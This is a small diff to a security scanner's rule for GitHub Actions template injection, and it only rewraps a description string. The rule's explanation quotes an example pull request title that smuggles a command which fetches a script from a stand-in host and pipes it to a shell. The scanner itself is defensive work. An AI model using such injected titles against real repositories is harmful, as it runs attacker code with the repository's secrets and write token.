@@ -29,7 +29,8 @@ TEMPLATE_INJECTION = Rule(
     "actions. Values reached through `env.*` are followed, and so are the outputs of actions that copy "
     "pull request file or branch names (the file lists of `tj-actions/changed-files` or `dorny/paths-filter`, "
     "not their `true`/`false` flags or counts; `docker/metadata-action` labels but not its tags or version). "
-    "Attacker text passed in `with:` to a local composite action that expands that input in its script is reported at the caller.",
+    "Attacker text passed in `with:` to a local composite action that expands that input in its script is "
+    "reported at the caller.",
     why="GitHub substitutes the expression into the script text before the shell or Node runs it, so a PR "
     'titled `x"; curl evil.sh | sh; echo "` becomes part of the command. Under `pull_request_target`, '
     "`issue_comment` or `workflow_run` the script runs with the repository's secrets and a write token: "
